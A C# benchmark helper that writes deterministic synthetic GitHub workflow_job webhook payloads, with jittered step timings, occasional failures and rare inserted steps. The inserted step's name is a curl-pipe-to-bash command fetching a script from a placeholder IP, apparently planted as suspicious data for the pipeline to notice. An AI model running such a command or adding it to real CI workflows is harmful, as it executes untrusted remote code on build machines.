using System.Buffers;
using System.Globalization;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace PipeWatch.Bench;

/// <summary>Writes a JSON Lines file of GitHub <c>workflow_job</c> webhook payloads, shaped on a real payload, for the ingest benchmark.</summary>
/// <remarks>
/// 50 repositories × 3 workflows × 4 jobs, each job with the template's steps; unique job and run ids, run_attempt 1,
/// per-step durations with jitter, ~2% failed jobs, a few 5× slower steps and inserted steps, completion times strictly
/// increasing. Deterministic (fixed seed); the file is reused when its parameters file matches.
/// </remarks>
internal sealed class WorkflowJobCorpus
{
    /// <summary>The real payload every line is made from, relative to the repository root.</summary>
    public const string TemplatePath = "../shared/corpus/github-webhooks/workflow_job/completed.success.with-organization.payload.json";

    private const int Seed = 20_260_401;
    private const int FormatRevision = 1;
    private const int Repositories = 50;
    private const int JobsPerRun = 4;
    private const double FailureRate = 0.02;
    private const double SlowStepRate = 0.0005;
    private const double InsertedStepRate = 0.0002;
    private const string InsertedStepName = "Run curl -sSfL https://203.0.113.7/setup.sh | bash";
    private const string TimeFormat = "yyyy-MM-dd'T'HH:mm:ss'Z'";
    private const string StepTimeFormat = "yyyy-MM-dd'T'HH:mm:ss'.000Z'";

    private static readonly string[] Workflows = ["CI", "CodeQL", "Release"];
    private static readonly string[][] Jobs =
    [
        ["build", "unit-tests", "integration-tests", "lint"],
        ["analyze (csharp)", "analyze (javascript)", "linters", "dependency-review"],
        ["build", "sign", "publish", "notify"],
    ];

    private static readonly DateTimeOffset Epoch = new(2025, 1, 6, 0, 0, 0, TimeSpan.Zero);

    private readonly JsonObject _job;
    private readonly string[] _stepNames;
    private readonly int[] _stepNumbers;
    private readonly byte[][] _repositories;
    private readonly string[] _fullNames;
    private readonly byte[] _organization;
    private readonly byte[] _sender;

    // Base seconds per repository, workflow, job and step: each job has its own steady profile.
    private readonly int[,,,] _baseSeconds;
    private readonly Random _random = new(Seed);

    private WorkflowJobCorpus(JsonObject template)
    {
        _job = template["workflow_job"]!.AsObject();
        var steps = _job["steps"]!.AsArray();
        _stepNames = [.. steps.Select(s => (string)s!["name"]!)];
        _stepNumbers = [.. steps.Select(s => (int)s!["number"]!)];
        _organization = Compact(template["organization"]!);
        _sender = Compact(template["sender"]!);

        var repository = template["repository"]!;
        var templateFullName = (string)repository["full_name"]!;
        var templateId = (long)repository["id"]!;
        _repositories = new byte[Repositories][];
        _fullNames = new string[Repositories];
        for (var r = 0; r < Repositories; r++)
        {
            var name = $"service-{r:00}";
            var fullName = $"Octocoders/{name}";
            var copy = JsonNode.Parse(repository.ToJsonString().Replace(templateFullName, fullName, StringComparison.Ordinal))!.AsObject();
            copy["id"] = templateId + r;
            copy["name"] = name;
            _repositories[r] = Compact(copy);
            _fullNames[r] = fullName;
        }

        _baseSeconds = new int[Repositories, Workflows.Length, JobsPerRun, _stepNames.Length];
        for (var r = 0; r < Repositories; r++)
        {
            for (var w = 0; w < Workflows.Length; w++)
            {
                for (var j = 0; j < JobsPerRun; j++)
                {
                    for (var s = 0; s < _stepNames.Length; s++)
                    {
                        _baseSeconds[r, w, j, s] = IsBookkeeping(_stepNames[s])
                            ? _random.Next(1, 4)
                            : 5 + (int)(Math.Pow(_random.NextDouble(), 2) * 400);
                    }
                }
            }
        }
    }

    /// <summary>The corpus of <paramref name="events"/> lines under <c>bench/out</c>, written unless an identical one is there.</summary>
    public static string Ensure(string root, long events, TextWriter log)
    {
        var folder = Path.Combine(root, "bench", "out");
        Directory.CreateDirectory(folder);
        var path = Path.Combine(folder, "workflow-jobs.jsonl");
        var parametersPath = path + ".params";
        var parameters = $"events={events} seed={Seed} revision={FormatRevision}";
        if (File.Exists(path) && File.Exists(parametersPath)
            && File.ReadAllText(parametersPath) == $"{parameters} bytes={new FileInfo(path).Length}")
        {
            log.WriteLine($"corpus: reusing {Relative(root, path)} ({events:N0} events, {new FileInfo(path).Length / 1e6:N0} MB)");
            return path;
        }

        var templatePath = Path.GetFullPath(Path.Combine(root, TemplatePath));
        log.WriteLine($"corpus: writing {events:N0} events to {Relative(root, path)} from {TemplatePath} ...");
        var started = System.Diagnostics.Stopwatch.StartNew();
        var template = JsonNode.Parse(File.ReadAllBytes(templatePath))!.AsObject();
        var corpus = new WorkflowJobCorpus(template);
        File.Delete(parametersPath);
        var partial = path + ".partial";
        using (var stream = new FileStream(partial, FileMode.Create, FileAccess.Write, FileShare.None, 1 << 20))
        {
            corpus.Write(stream, events);
        }

        File.Move(partial, path, overwrite: true);
        File.WriteAllText(parametersPath, $"{parameters} bytes={new FileInfo(path).Length}");
        log.WriteLine($"corpus: {new FileInfo(path).Length / 1e6:N0} MB in {started.Elapsed.TotalSeconds:N1} s");
        return path;
    }

    /// <summary>Copies the first <paramref name="lines"/> lines of <paramref name="source"/> to <paramref name="target"/>.</summary>
    public static void WritePrefix(string source, string target, int lines)
    {
        using var input = new FileStream(source, FileMode.Open, FileAccess.Read, FileShare.Read, 1 << 20);
        using var output = new FileStream(target, FileMode.Create, FileAccess.Write, FileShare.None, 1 << 20);
        var buffer = new byte[1 << 20];
        int read;
        while (lines > 0 && (read = input.Read(buffer)) > 0)
        {
            var span = buffer.AsSpan(0, read);
            var end = 0;
            while (lines > 0 && end < span.Length)
            {
                var newline = span[end..].IndexOf((byte)'\n');
                if (newline < 0)
                {
                    end = span.Length;
                    break;
                }

                end += newline + 1;
                lines--;
            }

            output.Write(span[..end]);
        }
    }

    private static string Relative(string root, string path) => Path.GetRelativePath(root, path);

    private static byte[] Compact(JsonNode node) => Encoding.UTF8.GetBytes(node.ToJsonString());

    /// <summary>Steps the runner adds around the work: short, steady, and never the one that fails.</summary>
    private static bool IsBookkeeping(string step) => step is "Set up job" or "Complete job" || step.StartsWith("Post ", StringComparison.Ordinal);

    private void Write(Stream stream, long events)
    {
        var buffer = new ArrayBufferWriter<byte>(64 * 1024);
        using var writer = new Utf8JsonWriter(buffer, new JsonWriterOptions { SkipValidation = true });
        var runsPerRound = Repositories * Workflows.Length;
        var sha = string.Empty;
        for (long i = 0; i < events; i++)
        {
            var within = (int)(i % (runsPerRound * JobsPerRun));
            var runIndex = i / JobsPerRun;
            var r = within / (Workflows.Length * JobsPerRun);
            var w = within / JobsPerRun % Workflows.Length;
            var j = within % JobsPerRun;
            if (j == 0) sha = Convert.ToHexStringLower(RandomBytes(20));
            var job = new GeneratedJob(
                r, w, j, JobId: 21_000_000_000 + i, RunId: 9_000_000_000 + runIndex, sha, Completed: Epoch.AddSeconds(i * 3));
            WriteLine(writer, job);
            writer.Flush();
            stream.Write(buffer.WrittenSpan);
            stream.WriteByte((byte)'\n');
            buffer.ResetWrittenCount();
            writer.Reset(buffer);
        }
    }

    private byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        _random.NextBytes(bytes);
        return bytes;
    }

    private void WriteLine(Utf8JsonWriter writer, GeneratedJob job)
    {
        var steps = PlanSteps(job);
        var failed = steps.Any(s => s.Conclusion == "failure");
        var total = steps.Sum(s => s.Seconds);
        var started = job.Completed.AddSeconds(-total);
        var created = started.AddSeconds(-_random.Next(2, 40));
        var fullName = _fullNames[job.Repository];
        writer.WriteStartObject();
        writer.WriteString("action", "completed");
        writer.WriteStartObject("workflow_job");
        foreach (var (name, value) in _job)
        {
            switch (name)
            {
                case "id": writer.WriteNumber(name, job.JobId); break;
                case "run_id": writer.WriteNumber(name, job.RunId); break;
                case "run_url": writer.WriteString(name, $"https://api.github.com/repos/{fullName}/actions/runs/{job.RunId}"); break;
                case "run_attempt": writer.WriteNumber(name, 1); break;
                case "head_sha": writer.WriteString(name, job.Sha); break;
                case "url": writer.WriteString(name, $"https://api.github.com/repos/{fullName}/actions/jobs/{job.JobId}"); break;
                case "html_url": writer.WriteString(name, $"https://github.com/{fullName}/actions/runs/{job.RunId}/job/{job.JobId}"); break;
                case "check_run_url": writer.WriteString(name, $"https://api.github.com/repos/{fullName}/check-runs/{job.JobId}"); break;
                case "status": writer.WriteString(name, "completed"); break;
                case "conclusion": writer.WriteString(name, failed ? "failure" : "success"); break;
                case "created_at": WriteTime(writer, name, created, TimeFormat); break;
                case "started_at": WriteTime(writer, name, started, TimeFormat); break;
                case "completed_at": WriteTime(writer, name, job.Completed, TimeFormat); break;
                case "name": writer.WriteString(name, Jobs[job.Workflow][job.Job]); break;
                case "workflow_name": writer.WriteString(name, Workflows[job.Workflow]); break;
                case "steps": WriteSteps(writer, steps, started); break;
                default:
                    writer.WritePropertyName(name);
                    if (value is null) writer.WriteNullValue();
                    else value.WriteTo(writer);
                    break;
            }
        }

        writer.WriteEndObject();
        writer.WritePropertyName("repository");
        writer.WriteRawValue(_repositories[job.Repository], skipInputValidation: true);
        writer.WritePropertyName("organization");
        writer.WriteRawValue(_organization, skipInputValidation: true);
        writer.WritePropertyName("sender");
        writer.WriteRawValue(_sender, skipInputValidation: true);
        writer.WriteEndObject();
    }

    /// <summary>The job's steps: jittered durations, and now and then a failure, a 5× slower step or an inserted one.</summary>
    private List<PlannedStep> PlanSteps(GeneratedJob job)
    {
        var steps = new List<PlannedStep>(_stepNames.Length + 1);
        for (var s = 0; s < _stepNames.Length; s++)
        {
            var baseSeconds = _baseSeconds[job.Repository, job.Workflow, job.Job, s];
            var jitter = 1 + ((_random.NextDouble() + _random.NextDouble() - 1) * 0.15);
            steps.Add(new PlannedStep(_stepNames[s], _stepNumbers[s], Math.Max(0, (int)Math.Round(baseSeconds * jitter)), "success"));
        }

        if (_random.NextDouble() < SlowStepRate)
        {
            var longest = steps.IndexOf(steps.MaxBy(s => s.Seconds)!);
            steps[longest] = steps[longest] with { Seconds = steps[longest].Seconds * 5 };
        }

        if (_random.NextDouble() < InsertedStepRate)
        {
            steps.Insert(3, new PlannedStep(InsertedStepName, steps[2].Number + 1, 20, "success"));
            for (var s = 4; s < steps.Count; s++)
            {
                steps[s] = steps[s] with { Number = steps[s].Number + 1 };
            }
        }

        if (_random.NextDouble() < FailureRate)
        {
            var work = Enumerable.Range(0, steps.Count).Where(s => !IsBookkeeping(steps[s].Name)).ToArray();
            var failing = work[_random.Next(work.Length)];
            steps[failing] = steps[failing] with { Seconds = steps[failing].Seconds / 2, Conclusion = "failure" };
            foreach (var s in work.Where(s => s > failing))
            {
                steps[s] = steps[s] with { Seconds = 0, Conclusion = "skipped" };
            }
        }

        return steps;
    }

    private static void WriteSteps(Utf8JsonWriter writer, List<PlannedStep> steps, DateTimeOffset started)
    {
        writer.WriteStartArray("steps");
        var at = started;
        foreach (var step in steps)
        {
            writer.WriteStartObject();
            writer.WriteString("name", step.Name);
            writer.WriteString("status", "completed");
            writer.WriteString("conclusion", step.Conclusion);
            writer.WriteNumber("number", step.Number);
            WriteTime(writer, "started_at", at, StepTimeFormat);
            at = at.AddSeconds(step.Seconds);
            WriteTime(writer, "completed_at", at, StepTimeFormat);
            writer.WriteEndObject();
        }

        writer.WriteEndArray();
    }

    private static void WriteTime(Utf8JsonWriter writer, string name, DateTimeOffset time, string format)
    {
        Span<char> text = stackalloc char[32];
        time.UtcDateTime.TryFormat(text, out var length, format, CultureInfo.InvariantCulture);
        writer.WriteString(name, text[..length]);
    }

    private readonly record struct GeneratedJob(int Repository, int Workflow, int Job, long JobId, long RunId, string Sha, DateTimeOffset Completed);

    private sealed record PlannedStep(string Name, int Number, int Seconds, string Conclusion);
}
